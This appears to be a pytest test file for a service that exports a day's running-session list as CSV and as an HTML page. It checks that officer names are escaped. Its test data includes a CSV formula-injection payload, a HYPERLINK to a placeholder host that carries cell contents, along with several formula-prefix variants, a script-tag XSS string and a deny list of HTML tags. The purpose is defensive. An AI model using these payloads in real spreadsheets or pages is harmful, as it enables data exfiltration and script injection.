"""A day's list, for a spreadsheet and to be printed; what a name could do there, it does not."""

import csv
from dataclasses import replace
from datetime import date, datetime
from html.parser import HTMLParser
from io import StringIO
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st
from stride_chassis.http_headers import page_headers
from stride_sessions.domain.attendance import Attendance, AttendanceId
from stride_sessions.domain.clock import LocalTime
from stride_sessions.domain.day_list import DayList, list_day
from stride_sessions.domain.session import Plan, Session, SessionId
from stride_sessions.domain.staff import StaffId, StaffMember
from stride_sessions.lists import DayPage, day_sheet
from stride_sessions.lists.cells import harmless

ON = date(2026, 11, 22)
PLAN = Plan(
    scheme="run-and-talk",
    kind="run",
    ward="E05000455",
    starts=LocalTime(datetime.fromisoformat("2026-11-22T18:30")),
    planned_minutes=60,
    host="common-runners",
)
FIRST = Session(session_id=SessionId(UUID(int=1)), plan=PLAN)
SECOND = replace(FIRST, session_id=SessionId(UUID(int=2)), state="cancelled", cancelled_because="weather")
FORMULA = '=HYPERLINK("https://x.example?"&A1);+1'
SCRIPT = "<script>alert('x')</script>"


def officer(name: str = "Jo Marsh", number: int = 1) -> StaffMember:
    return StaffMember(staff_id=StaffId(UUID(int=number)), kind="officer", name=name)


def part(number: int, state: str = "booked", session: Session = FIRST) -> Attendance:
    return Attendance(AttendanceId(UUID(int=number)), session.session_id, "participant", state)


def listed(*officers: StaffMember, people: tuple[Attendance, ...] = ()) -> DayList:
    return list_day(ON, [FIRST, SECOND], [(FIRST.session_id, one) for one in officers], people)


def lines(sheet: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(sheet.decode("utf-8-sig"), newline="")))


class Elements(HTMLParser):
    """Every element of a page, with its attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def of(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.found if name == tag]


def test_who_holds_a_place_is_expected_and_nobody_else() -> None:
    states = ("booked", "offered", "attended", "no-show", "waitlisted", "lapsed", "cancelled")
    people = tuple(part(number, state) for number, state in enumerate(states, start=1))
    first, second = listed(people=people).entries
    assert [one.state for one in first.people] == list(states[:4])
    assert (second.session.state, second.people) == ("cancelled", [])


def test_a_sheet_has_a_line_for_each_person_and_one_for_a_session_without() -> None:
    sheet = lines(day_sheet(listed(officer(), officer("Kim Adeyemi", 2), people=(part(3), part(4, "offered")))))
    told = {"date": "2026-11-22", "time": "18:30", "minutes": "60", "kind": "run", "ward": "E05000455"}
    told |= {"host": "common-runners", "session": "planned", "officers": "Jo Marsh / Kim Adeyemi"}
    told |= {"code": "AAA AAA", "role": "participant"}
    people = [{"person": str(UUID(int=3)), "state": "booked"}, {"person": str(UUID(int=4)), "state": "offered"}]
    nobody = {"session": "cancelled", "officers": "", "person": "", "code": "", "role": "", "state": ""}
    assert sheet == [told | people[0], told | people[1], told | nobody]


def test_excel_is_told_that_a_sheet_is_utf_8() -> None:
    sheet = day_sheet(listed(officer("Siân Ó Sé")))
    assert sheet.startswith(b"\xef\xbb\xbf")
    assert lines(sheet)[0]["officers"] == "Siân Ó Sé"
    assert b"\r\n" in sheet


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        (FORMULA, "'=HYPERLINK(\"https://x.example?\"&A1);'+1"),
        ("+44", "'+44"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        (" =1", "' =1"),
        ("\t=1", "'\t=1"),
        ("\uff1d1", "'\uff1d1"),
        ("x;=1", "x;'=1"),
        ('x",=1', "x\",'=1"),
    ],
)
def test_no_name_is_read_as_a_formula(name: str, cell: str) -> None:
    (line, _) = lines(day_sheet(listed(officer(name))))
    assert line["officers"] == cell


@pytest.mark.parametrize("name", ["Jo Marsh", "Anne-Marie", "O'Brien", "A - B", "", "a@b", "2026-11-22"])
def test_what_is_no_formula_stays_as_it_is(name: str) -> None:
    assert harmless(name) == name


@given(st.text())
def test_no_cell_begins_as_a_formula_does_and_nothing_is_lost(text: str) -> None:
    cell = harmless(text)
    assert cell.lstrip(" ")[:1] not in {*"=+-@\uff1d\uff0b\uff0d\uff20"}
    assert cell[:1] not in {*"\t\r\n"}
    assert cell.replace("'", "") == text.replace("'", "")


def test_a_page_shows_names_as_text_and_takes_nothing_from_elsewhere() -> None:
    page = DayPage().render(listed(officer(SCRIPT), officer(FORMULA, 2), people=(part(3),)), "merton")
    elements = Elements(page)
    assert SCRIPT not in page
    assert "&lt;script&gt;" in page
    assert {tag for tag, _ in elements.found} & {"script", "link", "img", "iframe", "object", "form"} == set()
    assert [one for _, attributes in elements.found for one in attributes if one in {"src", "href", "style"}] == []
    assert "url(" not in page
    assert "@import" not in page


def test_a_page_is_told_from_its_markup() -> None:
    page = DayPage().render(listed(officer(), people=(part(3), part(4))), "merton")
    elements = Elements(page)
    assert elements.of("html") == [{"lang": "en-GB"}]
    assert [one["scope"] for one in elements.of("th")] == ["col"] * 5 + ["row"] * 2
    assert len(elements.of("caption")) == len(elements.of("table")) == 1
    assert len(elements.of("h1")) == 1
    assert "@media print" in page
    assert "Sunday 22 November 2026" in page
    assert "(cancelled)" in page


def test_a_page_allows_its_own_style_and_nothing_else() -> None:
    policy = page_headers(DayPage().style)["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert "unsafe" not in policy


def test_a_day_without_sessions_says_so() -> None:
    assert "There are no sessions" in DayPage().render(list_day(ON, [], [], []), "merton")
    assert lines(day_sheet(list_day(ON, [], [], []))) == []
